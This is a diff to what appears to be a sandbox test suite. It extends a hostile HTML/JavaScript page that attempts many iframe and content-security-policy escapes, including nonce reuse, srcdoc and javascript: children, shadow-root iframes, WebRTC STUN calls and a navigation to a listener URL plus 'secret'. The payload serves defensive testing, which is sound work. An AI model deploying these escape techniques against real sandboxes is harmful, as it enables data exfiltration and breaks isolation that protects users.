@@ -36,7 +36,11 @@ await app.connect();
 document.body.dataset.theme = app.getHostContext().theme;
 </script></body></html>"""
 
-HOSTILE = """<html><body><ol></ol><script>
+HOSTILE = """<html><body><ol></ol><script>const early = []; const {nonce} = document.currentScript;
+addEventListener("message", ({data}) => data === "early" && early.push(data));</script>
+<iframe srcdoc="<script>parent.postMessage('early', '*')</script>"></iframe>
+<div><template shadowrootmode="closed"><iframe srcdoc="<script>parent.postMessage('early', '*')</script>"></iframe></template></div>
+<object data="data:text/html,x"></object><script>
 const EAR = "@EAR@", APP = location.origin + "/";
 const stun = EAR.replace("http://", "stun:").slice(0, -1);
 const told = [];
@@ -67,7 +71,18 @@ const tries = {
   background: async () => { document.body.style.background = `url(${EAR}x.png)`; },
   frame: () => add("iframe", {src: EAR}).then(() => "loaded, or an error page"),
   "webrtc": () => rtc(self).then(() => "ESCAPED"),
-  "webrtc in a child": () => child(`<script>try { const p = new RTCPeerConnection({iceServers: [{urls: "${stun}"}]}); p.createDataChannel("x"); p.setLocalDescription().then(() => parent.postMessage("child", "*")); } catch {}<\\/script>`),
+  "webrtc in a child": () => child(`<script nonce=${nonce}>try { const p = new RTCPeerConnection({iceServers: [{urls: "${stun}"}]}); p.createDataChannel("x"); p.setLocalDescription().then(() => parent.postMessage("child", "*")); } catch {}<\\/script>`),
+  "a child's window": async () => { const frame = document.createElement("iframe"); document.body.append(frame); await rtc(frame.contentWindow); return "ESCAPED"; },
+  "a script as a child's address": () => new Promise((resolve, reject) => { const frame = document.createElement("iframe");
+    addEventListener("message", ({data}) => data === "js child" && resolve("ESCAPED")); frame.src = "javascript:parent.postMessage('js child', '*')"; document.body.append(frame); setTimeout(reject, 2000); }),
+  "a child in a shadow": () => new Promise((resolve, reject) => { const root = document.body.appendChild(document.createElement("div")).attachShadow({mode: "closed"});
+    addEventListener("message", ({data}) => data === "shadow child" && resolve("ESCAPED")); root.innerHTML = `<p><iframe srcdoc="<script nonce=${nonce}>parent.postMessage('shadow child', '*')<\\/script>"></iframe>`; setTimeout(reject, 2000); }),
+  "a child that is written": async () => { document.write(`<iframe srcdoc="<script nonce=${nonce}>parent.postMessage('child', '*')<\\/script>"></iframe>`); },
+  "a child by HTML": () => new Promise((resolve, reject) => { addEventListener("message", ({data}) => data === "html child" && resolve("ESCAPED"));
+    document.body.insertAdjacentHTML("beforeend", `<div><iframe srcdoc="<script nonce=${nonce}>parent.postMessage('html child', '*')<\\/script>"></iframe></div>`); setTimeout(reject, 2000); }),
+  "the children of the page": async () => early.length ? "ESCAPED " + early : "nothing",
+  "a document of XML": async () => { const other = document.implementation.createHTMLDocument(); const frame = other.createElement("iframe");
+    frame.srcdoc = `<script nonce=${nonce}>parent.postMessage('early', '*')<\\/script>`; document.body.append(other.adoptNode(frame)); await new Promise((done) => setTimeout(done, 1000)); return early.length ? "ESCAPED" : "nothing"; },
   "worker": () => new Promise((resolve, reject) => { const one = new Worker(URL.createObjectURL(new Blob([`postMessage("ESCAPED")`]))); one.onmessage = ({data}) => resolve(data); one.onerror = reject; }),
   "import": () => import(EAR + "x.js").then(() => "ESCAPED"),
   storage: async () => { localStorage.setItem("a", "b"); return "ESCAPED"; },
@@ -98,7 +113,8 @@ const tries = {
   }
   parent.postMessage({kind: "done", run_id: "x", result: "ESCAPED"}, "*");
   document.body.append(Object.assign(document.createElement("pre"), {id: "told", textContent: JSON.stringify(told)}));
-  setTimeout(() => (location.href = EAR + "secret"), 500);
+  setTimeout(() => (location.href = `javascript:"<script nonce=${nonce}>new RTCPeerConnection({iceServers: [{urls: '${stun}'}]}).createDataChannel('x')<\\/script>"`), 300);
+  setTimeout(() => (location.href = EAR + "secret"), 900);
 })();
 </script></body></html>""".replace("@EAR@", ear)
 FLOOD = """<p>flood</p><script>
